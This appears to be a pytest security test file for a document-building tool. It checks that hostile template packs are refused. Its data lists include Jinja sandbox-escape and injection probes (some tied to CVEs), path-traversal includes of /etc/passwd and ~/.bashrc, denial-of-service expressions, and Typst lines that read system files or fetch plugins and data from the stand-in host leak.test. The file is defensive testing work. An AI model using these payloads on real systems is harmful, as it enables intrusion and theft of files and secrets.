"""Packs from anybody: known ways out of Jinja's sandbox, of folders, and of what MyST may say."""

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from docutils import nodes
from hypothesis import given, settings
from hypothesis import strategies as st
from sphinx import addnodes

from briefwright.assembly import assemble
from briefwright.problems import BriefError, Code, has_errors
from briefwright.project import Project
from briefwright.render import render, try_render
from briefwright.templates import find_pack
from test_hostile import ACTIVE, DOCUMENTS, SECRET, placed, read_page
from test_templates import brief, fails
from values import pack

Write = Callable[[str, str], Path]
PART = "{% set x = 1 %}{% macro m() %}{{ caller() if caller is defined }}{% endmacro %}"

HOSTILE = [
    # The published holes of the sandbox, by their CVE.
    "{{ '{0.__class__.__mro__}'.format(brief) }}",  # 2016-10745
    "{{ '{a.__class__.__mro__}'.format_map({'a': brief}) }}",  # 2019-10906
    "{{ {'a b': 1} | xmlattr }}",  # 2024-22195, 2024-34064
    "{{ ('http://' + 'a.' * 99) | urlize }}",  # 2020-28493
    "{% set f = '{0.__class__}'.format %}{{ [brief] | map(f) | join }}",  # 2024-56326
    "{% set f = '{0.__class__}'.format %}{{ f(brief) }}",
    "{{ '{0.__class__}' | attr('format') }}",  # 2025-27516
    "{{ ('{0.__class__}' | attr('format'))(brief) }}",
    "{% from 'part.md.j2' import missing %}{{ missing }}",  # 2024-56201: names in messages
    # Attributes by every filter that takes one.
    "{{ brief.sides | map(attribute='__class__') | join }}",
    "{{ brief.sides | map('side.__class__') | join }}",
    "{{ brief.sides | sum('__class__') }}",
    "{{ brief.sides | sum('__sizeof__') }}",
    "{{ brief.sides | min('__class__') }}",
    "{{ brief.sides | max('__hash__') }}",
    "{{ brief.sides | unique('__class__') | join }}",
    "{{ brief.sides | sort(attribute='__class__.__name__') | join }}",
    "{{ brief.sides | groupby('__class__.__name__') | join }}",
    "{{ brief.sides | rejectattr('__dict__') | join }}",
    "{{ brief.sides | selectattr('name', 'attr', '__class__') | join }}",
    "{{ cards | items | map('0.__class__') | join }}",
    "{{ brief.sides | map('upper') | join }}",
    "{{ [''] | map('format', brief) | join }}",
    # Attributes of every kind of value.
    "{{ true.__class__ }}",
    "{{ none.__class__ }}",
    "{{ [].__class__ }}",
    "{{ {}.__class__ }}",
    "{{ ().__class__ }}",
    "{{ 1.5.__class__ }}",
    "{{ brief.title[0].__class__ }}",
    "{{ brief.title[:1].__class__ }}",
    "{{ (brief.title ~ 'x').__class__ }}",
    "{{ brief.pro.contentions.__class__ }}",
    "{{ (brief.pro.contentions | first).__class__ }}",
    "{{ (brief.sides | groupby('side') | first).__class__ }}",
    "{{ brief.format.rates.__class__ }}",
    "{{ brief.pro.side.value.__class__ }}",
    "{{ brief.pro.side.name }}",
    "{{ cards.a.place.__class__ }}",
    "{{ cards.__class__ }}",
    "{{ options.__class__ }}",
    "{{ options.items() }}",
    "{{ wording.keys() }}",
    "{{ cards.get('a') }}",
    "{{ cards.copy() }}",
    "{{ documents.__class__ }}",
    "{{ documents.count(1) }}",
    "{{ document.__init__ }}",
    "{{ brief.title.encode() }}",
    "{{ brief.title.__add__('x') }}",
    "{{ brief.title.join(['a']) }}",
    "{{ 'a'.__mul__(9) }}",
    "{{ brief.__replace__ }}",
    "{{ brief.__getstate__() }}",
    "{{ brief.__slots__ }}",
    "{{ brief['__doc__'] }}",
    "{{ brief['__class' ~ '__'] }}",
    "{{ brief[['__class__'] | first] }}",
    # Other letters for the same name.
    "{{ brief.__ｃlass__ }}",
    "{{ brief['__ｃlass__'] }}",
    "{{ brief.__𝐜𝐥𝐚𝐬𝐬__ }}",
    "{{ brief.＿＿class＿＿ }}",
    # What Jinja gives.
    "{{ self.__class__ }}",
    "{{ self.environment }}",
    "{{ self['__class__'] }}",
    "{% block b %}{{ super() }}{% endblock %}",
    "{% block b %}{{ super.__init__ }}{% endblock %}",
    "{% block b %}{{ self.b.super.__globals__ }}{% endblock %}",
    "{% block b %}{{ self.b.name }}{% endblock %}",
    "{{ super() }}",
    "{{ caller() }}",
    "{{ loop }}",
    "{{ loop.index }}",
    "{{ varargs }}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "{% macro m() %}{{ m.__globals__ }}{% endmacro %}{{ m() }}",
    "{% macro m() %}{{ m.arguments }}{% endmacro %}{{ m() }}",
    "{% macro m() %}{{ varargs.count(1) }}{% endmacro %}{{ m(1) }}",
    "{% macro m() %}{{ kwargs.pop('a') }}{% endmacro %}{{ m(a=1) }}",
    "{% macro m(a) %}{% endmacro %}{{ m.__call__(1) }}",
    "{% for a in [1] recursive %}{{ loop.__call__ }}{% endfor %}",
    "{% for a in [1] %}{{ loop._before }}{% endfor %}",
    "{% for a in [1] %}{{ loop.cycle.__self__ }}{% endfor %}",
    "{% for a in [1] %}{{ loop.changed.__func__.__globals__ }}{% endfor %}",
    "{{ namespace.__class__ }}",
    "{{ namespace(brief) }}",
    "{% set n = namespace() %}{% set n.__class__ = 1 %}{{ n.__class__ }}",
    "{% set n = namespace(**{'__class__': 1}) %}{{ n['__class__'] }}",
    "{{ cycler('a').next() }}",
    "{{ dict(a=1) }}",
    "{{ lipsum.__globals__ }}",
    "{{ undefined_name.__init__.__globals__ }}",
    "{% set x | attr('__class__') %}a{% endset %}",
    "{% filter attr('__class__') %}a{% endfilter %}",
    "{% import 'part.md.j2' as p %}{{ p.m.__globals__ }}",
    "{% import 'part.md.j2' as p with context %}{{ p.brief.__class__ }}",
    "{% from 'part.md.j2' import m with context %}{{ m._func }}",
    # Extensions that are not there.
    "{% for a in [1] %}{% break %}{% endfor %}",
    "{% for a in [1] %}{% continue %}{% endfor %}",
    "{% pluralize %}",
    "{{ _('a') }}",
    "{{ gettext('a') }}",
    "{{ ngettext('a', 'b', 1) }}",
    # Files, by names worked out and names in disguise.
    "{% include brief.title %}",
    "{% extends brief.title %}",
    "{% from brief.title import x %}",
    "{% import cards as c %}",
    "{% include ['/etc/passwd', '../part.md.j2'] %}",
    "{% include './part.md.j2' %}",
    "{% include 'part.md.j2/' %}",
    "{% include 'part.md.j2\\n' %}",
    "{% include 'part\\u202e.md.j2' %}",
    "{{ brief['a\\nb\\u202e\\x1b[31m'] }}",
    "{{ wording['a\\nb'] }}",
    "{% include 'PART.md.j2' %}",
    "{% include 'Part.md.j2' %}",
    "{% include 'pärt.md.j2' %}",
    "{% include 'ｐart.md.j2' %}",
    "{% include '!!part.md.j2' %}",
    "{% include '1:part.md.j2' %}",
    "{% include '!0:part.md.j2' %}",
    "{% include 'none:part.md.j2' %}",
    "{% include 'file:///etc/passwd' %}",
    "{% include 'x/../part.md.j2' %}",
    "{% include '~/.bashrc' %}",
    "{% include 'template.yml' %}",
    "{% include 1 %}",
    "{% include none %}",
    "{% include [] %}",
    "{% include {} %}",
    # Numbers and sizes.
    "{{ 999999999999999 * 999999999999999 }}",
    "{{ 9999999999999999 + 1 }}",
    "{{ 1e308 * 10 }}",
    "{{ 9999999999999 / 0.0000000001 }}",
    "{{ (1, 2) * 99 }}",
    "{{ 'a' * 99999999 * 99999999 }}",
    "{{ 'x' % 5 }}",
    "{{ '%0999999999d' % 5 }}",
    "{{ 'a' | center(999999999) }}",
    "{{ 'a' | wordwrap(1) }}",
    "{{ 'a' | ljust(999999999) }}",
    "{{ range(999999999) | list }}",
    "{{ brief | pprint }}",
    "{{ brief | string }}",
    "{{ brief | tojson }}",
    "{{ ('a' | myst) * 9999999999 }}",
    "{% set s = 'a' * 60000000 %}{{ s ~ s }}",
    "{{ '{a}' | fill(a='a' * 60000000) | replace('a', '{a}') }}",
    "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% macro a(n) %}{% call a(n) %}{% endcall %}{% endmacro %}{{ a(1) }}",
    "{% set x = [] %}{% for a in x.append(x) %}{% endfor %}",
]


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 130
    assert len(set(HOSTILE)) == len(HOSTILE)


@pytest.mark.parametrize("template", HOSTILE)
def test_a_hostile_template_is_refused_in_one_line_and_tells_nothing(template: str) -> None:
    said = fails(template, part=PART)
    for inner in ("0x", "<class", "<function", "<built-in", "jinja2", "root:", "/tmp/", "self."):
        assert inner not in said.replace(template, "")


@pytest.mark.parametrize(
    ("template", "text"),
    [
        ("{{ '{brief.__class__}' | fill(brief=1) }}", r"\{brief.\_\_class\_\_\}"),
        ("{{ '{0}%s${x}' }}", r"\{0\}\%s\$\{x\}"),
        ("{{ 'a b c' | truncate(999999999) }}", "a b c"),
        ("{{ 'a' | indent(999999999) }}", "a"),
        ("{{ [1, 2] | sort | join }}{{ 2 | round(999999) }}", "122"),
        ("{% set ｎame = 'a' %}{{ ｎame }}", "a"),
    ],
)
def test_what_only_looks_hostile_is_text(template: str, text: str) -> None:
    (document,) = render(brief(), pack({"index.md.j2": template}))
    assert document.text.partition("\n")[2] == f"{text}\n"


@pytest.mark.parametrize(
    "name", ["{0.__class__}", "{x!r}", "%s%n", "'''", '"', "\\", "a\nb", "{{ 1 }}", "'+open('x')+'"]
)
def test_the_name_of_a_file_is_only_a_name(name: str) -> None:
    # CVE-2024-56201: a name that Jinja's compiler wrote into code.
    file = f"{name}.md.j2"
    index = f"{{% set f = {file!r} %}}{{% from f import missing %}}{{{{ missing }}}}"
    with pytest.raises(BriefError) as raised:
        render(brief(), pack({"index.md.j2": index, file: "{% set x = 1 %}"}))
    (problem, *_) = raised.value.problems
    assert problem.code is Code.TEMPLATE


@pytest.mark.parametrize("kind", ["include", "extends"])
def test_a_chain_of_hundreds_of_templates_ends(kind: str) -> None:
    files = {f"n{n}.md.j2": f"{{% {kind} 'n{n + 1}.md.j2' %}}" for n in range(400)}
    files |= {"index.md.j2": f"{{% {kind} 'n0.md.j2' %}}", "n400.md.j2": "end"}
    try:
        (document,) = render(brief(), pack(files))
    except BriefError as error:
        (problem,) = error.problems
        assert "without end" in problem.headline
        assert len(problem.detail) < 15
    else:
        assert document.text.endswith("end\n")


FRAGMENTS = st.lists(
    st.sampled_from(
        [
            *(
                "{{ ",
                " }}",
                "{% ",
                " %}",
                "{# ",
                " #}",
                "{%- ",
                " -%}",
                "\n",
                " ",
                "text",
                "'",
                '"',
            ),
            *("brief", ".title", ".nope", "['x']", "[0]", "[1:", "]", " | upper", " | nope", " | "),
            *(
                "if ",
                "else",
                "endif",
                "for x in ",
                "endfor",
                "set y = ",
                "endset",
                "x",
                "y",
                "(",
                ")",
            ),
            *(
                "block b",
                "endblock",
                "extends 'part.md.j2'",
                "include 'part.md.j2'",
                "super()",
                "~",
            ),
            *("macro m(a)", "endmacro", "m(1)", "call m()", "endcall", "is nope", "is defined"),
            *("1", "+", "**", "%", "&", "\u202e", "\t", "é", "𝐱", "raw", "endraw", "{{ brief.x }}"),
            *("{% if brief.x %}{% endif %}", "{% include 'nope' %}", "{{ 1 / 0 }}", "self.b()"),
        ]
    ),
    max_size=14,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(FRAGMENTS)
def test_any_template_is_written_or_refused_in_lines_with_places(text: str) -> None:
    asked = pack({"index.md.j2": text, "part.md.j2": PART + "{% block b %}{% endblock %}"})
    rendering = try_render(brief(), asked)
    assert bool(rendering.documents) != has_errors(rendering.problems)
    lines = text.split("\n")
    for problem in rendering.problems:
        assert problem.headline.isprintable()
        assert problem.place.path.startswith("templates/x/")
        if problem.place.path.endswith("index.md.j2") and problem.place.column:
            line = lines[problem.place.line - 1]
            assert problem.place.column <= len(line) + 1
            carets = [d for d in problem.detail if d.startswith("| ") and d.endswith("^")]
            assert len(carets) == 1


# -- Folders


@pytest.fixture
def templates(tmp_path: Path) -> Write:
    """Write a file of the project's templates, and return the project."""

    def put(name: str, text: str) -> Path:
        path = tmp_path / "project" / "templates" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return tmp_path / "project"

    return put


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd",
        "../secret.md.j2",
        "Index.md.j2",
        "index.md.j2\0",
        "./index.md.j2",
        "x\\y",
        "~",
    ],
)
def test_a_document_is_written_by_a_file_of_the_pack_only(
    templates: Write, tmp_path: Path, name: str
) -> None:
    (tmp_path / "project" / "templates").mkdir(parents=True)
    (tmp_path / "project" / "templates" / "secret.md.j2").write_text(SECRET)
    text = f"extends: public-forum\ndocuments: [{{name: index, template: {name!r}}}]\n"
    root = templates("x/template.yml", text)
    with pytest.raises(BriefError) as raised:
        find_pack("x", root)
    assert len(raised.value.problems) == 1
    assert SECRET not in str(raised.value)


@pytest.mark.parametrize(
    "name", ["../x", "/etc", "BASE", "Base", "base/", "./base", "base/../base", ".", "", "ｂase"]
)
def test_a_pack_extends_a_pack_by_its_name_only(templates: Write, name: str) -> None:
    root = templates("x/template.yml", f"extends: {name!r}\n")
    templates("template.yml", "title: Not a pack\n")
    with pytest.raises(BriefError) as raised:
        find_pack("x", root)
    assert len(raised.value.problems) == 1


def test_links_of_folders_and_files_that_lead_out_are_refused_wherever_they_lie(
    templates: Write, tmp_path: Path
) -> None:
    root = templates("public-forum/ok.md.j2", "")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "part.md.j2").write_text(SECRET)
    folder = root / "templates" / "public-forum"
    for link, goal in [
        ("sub/x.md.j2", outside / "part.md.j2"),
        ("logo.png", outside / "part.md.j2"),
    ]:
        (folder / link).parent.mkdir(exist_ok=True)
        (folder / link).symlink_to(goal)
        with pytest.raises(BriefError, match="leads out of its template") as raised:
            find_pack("public-forum", root)
        assert SECRET not in str(raised.value)
        (folder / link).unlink()
    (folder / "more").symlink_to(outside)  # a folder: nothing in it is a part of the pack
    assert not any("more" in name for name in find_pack("public-forum", root).files)


# -- MyST that a template writes


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory):
    """Build a brief whose pack writes every hostile document, each two ways."""
    from briefwright.scaffold import lay_out
    from conftest import sphinx_build

    base = tmp_path_factory.mktemp("hostile-pack")
    root, secret, canary = base / "project", base / "secret.txt", base / "canary"
    lay_out(root)
    secret.write_text(SECRET)
    folder = root / "templates" / "theirs"
    folder.mkdir(parents=True)
    names, values = [], {}
    for number, (_title, text, _shown) in enumerate(DOCUMENTS):
        hostile = placed(text, secret, canary).replace("{% endraw", "{ % endraw")
        quoted = repr(hostile).replace("{{", "{{ '{{' }}") if "{{" not in hostile else None
        (folder / f"raw{number}.md.j2").write_text(
            f"{{% raw %}}\n# Page\n\n{hostile}\n\nTHE-END-{number}\n{{% endraw %}}",
            encoding="utf-8",
        )
        names.append(f"raw{number}")
        if quoted:
            (folder / f"said{number}.md.j2").write_text(
                f"# Page\n\n{{{{ {quoted} | myst }}}}\n\nTHE-END-{number}\n", encoding="utf-8"
            )
            names.append(f"said{number}")
        # By way of a value, which is no template's mistake: all of these reach Sphinx.
        values[f"text-{number}"] = hostile
        (folder / f"value{number}.md.j2").write_text(
            f"# Page\n\n{{{{ options['text-{number}'] | myst }}}}\n\nTHE-END-{number}\n",
            encoding="utf-8",
        )
        names.append(f"value{number}")
    index = "# Index\n\n:::{toctree}\n{% for d in documents if d.name != 'index' %}\n{{ d.name | myst }}\n{% endfor %}\n:::\n"
    (folder / "start.md.j2").write_text(index)
    options = [f"  {name}: {{default: {json.dumps(value)}}}" for name, value in values.items()]

    def describe() -> None:
        documents = [f"  - {{name: {name}, template: {name}.md.j2}}" for name in names]
        first = "  - {name: index, template: start.md.j2}"
        head = ["extends: public-forum", "options:", *options, "documents:", first]
        (folder / "template.yml").write_text("\n".join([*head, *documents, ""]))

    describe()
    (root / "briefs/hostile.yaml").write_text("resolution: R\ntemplate: theirs\n")
    told = [
        p for p in assemble(Project(root), ("hostile",)).problems if p.severity.value == "error"
    ]
    assert {p.place.path.rpartition("/")[0] for p in told} == {"templates/theirs"}
    refused = {p.place.path.rpartition("/")[2].removesuffix(".md.j2") for p in told}
    assert len(refused) > 60
    assert not [name for name in refused if name.startswith("value")]
    names = [name for name in names if name not in refused]
    describe()
    assembly = assemble(Project(root), ("hostile",))
    assert [p for p in assembly.problems if p.severity.value == "error"] == []
    made = sphinx_build(root, base / "out" / "html", warnings="WARNING", brief_only=["hostile"])
    return made, [f"briefs/hostile/{name}" for name in names], canary


def test_what_a_template_writes_runs_fetches_and_reads_nothing(built) -> None:
    made, docnames, canary = built
    assert len(docnames) > 150
    assert not canary.exists()
    never = (nodes.raw, nodes.image, nodes.meta, nodes.math, nodes.math_block, nodes.pending)
    harmless = read_page(made.path / "briefs/hostile/index.html")
    for docname in docnames:
        tree = made.doctree(docname)
        assert not list(tree.findall(lambda node: isinstance(node, never))), docname
        assert not list(tree.findall(addnodes.download_reference))
        assert SECRET not in tree.astext()
        page = read_page(made.path / f"{docname}.html")
        more = page.active.keys() - harmless.active.keys()
        assert all(("class", "toctree-checkbox") in element for element in more), docname
        for tag, name, value in page.attributes:
            assert not name.startswith("on"), (docname, tag, name, value)
            if name in {"href", "src", "action"}:
                assert not re.match(r"\s*(javascript|vbscript|data|file):", value, re.IGNORECASE)
    for path in made.path.rglob("*"):
        assert not path.is_file() or SECRET.encode() not in path.read_bytes(), path
    assert "script" in ACTIVE


def test_the_whole_of_it_is_shown(built) -> None:
    made, docnames, _ = built
    for docname in docnames:
        page = read_page(made.path / f"{docname}.html")
        assert f"THE-END-{re.sub('[^0-9]', '', docname)}" in page.text, docname


# -- What is printed

LOOKS = [
    '#let x = read("/etc/passwd")',
    '#let x = read("../../../../../../../../etc/passwd")',
    '#let x = read("../../documents/briefs/sunday-libraries/con-brief.typ")\n#panic(x)',
    '#import "../other/print.typ": *',
    '#import "@preview/cetz:0.3.0": *',
    '#import "@local/x:1.0.0": *',
    '#let x = plugin("/etc/passwd")',
    '#let x = plugin("https://leak.test/x.wasm")',
    '#let x = image("http://leak.test/x.png")\n#let footer(look, job) = x',
    '#let x = json("https://leak.test/x.json")',
    '#let x = eval("read(\\"/etc/passwd\\")")',
    '#let x = eval("import \\"@preview/cetz:0.3.0\\": *")',
    '#include "/etc/passwd"',
    "#let footer(look, job) = [#sys.inputs.secret]",
    '#let footer(look, job) = bibliography("/etc/passwd")',
    '#let footer(look, job) = html.elem("script")[alert(1)]\n#panic("no html")',
]


@pytest.mark.parametrize("look", LOOKS)
def test_a_look_that_reaches_out_is_refused_in_one_line(
    small: Path, cli: Callable[..., object], look: str
) -> None:
    folder = small / "templates" / "public-forum"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "print.typ").write_text(look, encoding="utf-8")
    said = cli("build", "--to", "pdf", cwd=small, code=1).stderr.splitlines()  # type: ignore[attr-defined]
    first = [line for line in said if not line.startswith("    ")]
    assert first[0].startswith("templates/public-forum/print.typ:")
    assert "error[pdf]" in first[0]
    assert "root:" not in "\n".join(said)
    assert str(small) not in "\n".join(said)
    assert not list((small / "build").glob("pdf/*"))
